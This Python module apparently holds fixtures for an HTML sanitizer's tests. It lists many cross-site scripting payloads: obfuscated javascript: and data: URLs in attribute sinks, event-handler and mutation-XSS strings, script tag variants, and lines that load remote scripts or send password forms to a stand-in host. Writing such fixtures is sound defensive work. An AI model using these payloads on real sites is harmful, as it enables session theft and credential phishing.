# ruff: noqa: E501 - a payload or an expectation reads best on one line
"""Markup made to do harm, by class, written for these tests: what no cleaning may let through."""

from __future__ import annotations

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,x", "blob:https://e.com/1", "filesystem:https://e.com/1",
    "view-source:https://e.com", "file:///etc/passwd", "jar:https://e.com!/x", "feed:javascript:alert(1)",
    "\\\\javascript:alert(1)", "%6Aavascript:alert(1)", "javascript://e.com/%0Aalert(1)",
    "javascript\u200b:alert(1)", "x-javascript:alert(1)", "about:blank", "chrome://settings",
)  # fmt: skip

_SINKS = (
    '<a href="{}">x</a>', '<img src="{}">', '<img srcset="{} 2x">', '<img src=x data-src="{}">',
    '<img data-original="{}">', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<video src="{}"></video>', '<video poster="{}"></video>', '<audio><source src="{}"></audio>',
    '<blockquote cite="{}">x</blockquote>', '<math href="{}"><mi>x</mi></math>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<form action="{}"><button formaction="{}">x</button></form>', '<link rel=stylesheet href="{}">', '<base href="{}">',
    '<area href="{}">', '<body background="{}">', '<table background="{}"><tr><td background="{}">x</table>', "<a href='{}'>x</a>",
)  # fmt: skip

_HANDLERS = tuple(
    f"<{tag} {handler}=alert(1)>x"
    for tag in ("img src=x", "p", "a", "body", "div", "details open", "svg", "video", "marquee", "input autofocus", "math", "td")
    for handler in ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "ONERROR", "on\u0130error")
)  # fmt: skip

_MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<svg><desc><noscript></desc><style></noscript><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<table><td><svg><desc><td></desc><style><!--</style><img src=x onerror=alert(1)>-->",
    '<p><svg><foreignObject><p><style><p title="</style><iframe onload&#x3d;alert(1)></iframe>">',
    "<img alt=\"`<script>alert(1)</script>\">",
    '<img alt="&lt;/title&gt;<img src=x onerror=alert(1)>">',
    "<x-iframe src=javascript:alert(1)>x</x-iframe>",
    "<x-noscript><script>alert(1)</script></x-noscript>",
    '<x-noscript title="<img src=x onerror=alert(1)>">',
    '<video><source src="x"><iframe src="javascript:alert(1)"></video>',
    '<iframe src="https://e.com/" srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    '<img src="https://e.com/&quot; onerror=&quot;alert(1)">',
    "<img src='https://e.com/\" onerror=\"alert(1)'>",
    '<iframe src="https://e.com/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src='https://<script>alert(1)</script>/'></iframe>",
    "<img title='\"><script>alert(1)</script>'>",
)  # fmt: skip

_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//e.com/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script >", "<<script>alert(1)//<</script>",
    "<script>alert(1)", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=//e.com/x.js />",
    "<math><script>alert(1)</script></math>", "<![CDATA[<script>alert(1)</script>]]>", "<!--><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "\ud800<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script\u2028>", "＜script＞alert(1)＜/script＞",
)  # fmt: skip

_FORMS_STYLES_FRAMES = (
    "<style>@import '//e.com/x.css';</style>", "<p style='background:url(javascript:alert(1))'>x",
    "<p style='position:fixed;inset:0;z-index:9'>x", "<div style=\"width:expression(alert(1))\">x",
    "<link rel=import href=//e.com/x>", "<meta http-equiv=refresh content='0;url=//e.com'>",
    "<base href=//e.com/><a href=x>y</a>", "<form action=//e.com><input name=password><button>x</form>",
    "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1)>", "<button formaction=//e.com>x",
    "<frameset><frame src=//e.com></frameset>", "<iframe src=//e.com></iframe>", "<object data=//e.com/x.swf></object>",
    "<embed src=//e.com/x.swf>", "<applet code=x></applet>", "<portal src=//e.com></portal>", "<dialog open>x</dialog>",
    "<img id=body name=cookie>", "<a id=defaultView name=x href=//e.com>y</a>", "<form id=document><input name=domain>",
    "<p class='x' id='y' name='z' slot='s' is='i' contenteditable>x", "<a href=//e.com target=_blank ping=//e.com/p download>x</a>",
    "<img usemap=#m src=x><map name=m><area href=//e.com></map>", "<svg><use href=//e.com/x.svg#a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<math><maction actiontype='statusline#//e.com' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<video autoplay><track src=//e.com></video>", "<marquee behavior=scroll>x</marquee>", "<keygen autofocus>", "<comment>x</comment>",
    "<custom-element onconnected=alert(1)>x</custom-element>", "<slot name=x></slot>", "<template><script>alert(1)</script></template>",
)  # fmt: skip

PAYLOADS = (
    *(sink.replace("{}", scheme) for sink in _SINKS for scheme in _SCHEMES),
    *_HANDLERS, *_MUTATION, *_SCRIPTS, *_FORMS_STYLES_FRAMES,
)  # fmt: skip
